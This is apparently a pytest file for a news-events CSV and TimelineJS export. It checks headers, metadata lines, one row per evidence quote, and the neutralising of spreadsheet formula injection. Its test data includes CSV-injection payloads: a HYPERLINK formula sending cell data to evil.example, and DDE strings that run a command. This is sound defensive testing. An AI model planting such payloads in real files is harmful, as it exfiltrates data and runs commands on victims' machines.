"""The Excel-friendly CSV: BOM, headers in the UI language, filters/date/licence on top, one row
per evidence sentence, and no cell that a spreadsheet would run as a formula."""

import csv
import io
from datetime import date

import pandas as pd
import pytest
from exchange_data import real

from events.exchange.safe_csv import csv_file, defused_rows, undefuse
from events.exchange.timelinejs import read_timelinejs, timelinejs_csv_file
from events.queries.filters import FilterState

EXPORTED = date(2025, 8, 1)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("https://evil.example/?d="&A1,"klick")',
    "=cmd|' /C calc'!A0",
    '-2+3+cmd|"/C calc"!A0',
    "@@=1",
    "%0A=1",
    "|pipe",
]
HARMLESS = ["-5", "-1.5", "1993", "Türkei schließt Grenze", "„Zitat“ mit = drin", ""]


def parse(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def written(values) -> list[str]:
    buffer = io.StringIO(newline="")
    defused_rows(buffer, [values])
    return parse(buffer.getvalue().encode())[0]


@pytest.mark.parametrize("value", HOSTILE)
def test_hostile_cell_is_neutralised_and_comes_back(value):
    [cell] = written([value])
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.startswith("'")
    assert undefuse(cell) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_harmless_cell_stays_as_it_is(value):
    assert written([value]) == [value]


def hostile_events() -> tuple[pd.DataFrame, pd.DataFrame]:
    data = real()
    events = data.events.iloc[: len(HOSTILE)].copy()
    for column in ("title_de", "title_en", "summary_de", "date_text"):
        events[column] = HOSTILE
    events["actors"] = [(value,) for value in HOSTILE]
    evidence = data.evidence[data.evidence["event_id"].isin(events["id"])].copy()
    evidence["quote"] = [HOSTILE[i % len(HOSTILE)] for i in range(len(evidence))]
    return events, evidence


@pytest.mark.parametrize("lang", ["de", "en"])
def test_no_exported_cell_starts_a_formula(lang):
    events, evidence = hostile_events()
    for function in (csv_file, timelinejs_csv_file):
        result = function(events, evidence, real().sources, FilterState(), lang, exported=EXPORTED)
        cells = [cell for row in parse(result.data) for cell in row]
        assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]


def test_timelinejs_spreadsheet_round_trip_survives_neutralising():
    events, evidence = hostile_events()
    data = timelinejs_csv_file(events, evidence, real().sources, FilterState(), "de").data
    assert [slide["title"] for slide in read_timelinejs(data)] == [
        value.replace("\r", "").strip() for value in HOSTILE
    ]


def test_csv_has_bom_meta_lines_and_ui_language_headers():
    data = real()
    result = csv_file(
        data.events,
        data.evidence,
        data.sources,
        FilterState(countries=("ARM",), date_from="2023"),
        "de",
        total=len(data.events),
        exported=EXPORTED,
    )
    assert result.data.startswith(b"\xef\xbb\xbf") and result.mime == "text/csv"
    rows = parse(result.data)
    assert rows[0][0].startswith("Filter: Armenien · ab 2023 · ")
    assert rows[1] == ["Exportiert am 1. August 2025"]
    assert "§ 51 UrhG" in rows[2][0]
    assert rows[3] == []
    assert rows[4][:3] == ["ID", "Datum (EDTF)", "Datum"] and "Zitat" in rows[4]
    english = parse(csv_file(data.events, data.evidence, data.sources, FilterState(), "en").data)
    assert english[4][:3] == ["ID", "Date (EDTF)", "Date"]


def test_one_row_per_evidence_sentence_and_every_quote_verbatim():
    data = real()
    rows = parse(csv_file(data.events, data.evidence, data.sources, FilterState(), "de").data)
    header, body = rows[4], rows[5:]
    quote_column = header.index("Zitat")
    without_evidence = set(data.events["id"]) - set(data.evidence["event_id"])
    assert len(body) == len(data.evidence) + len(without_evidence)
    assert sorted(undefuse(row[quote_column]) for row in body if row[quote_column]) == sorted(
        data.evidence["quote"]
    )
    assert {row[0] for row in body} == set(data.events["id"])
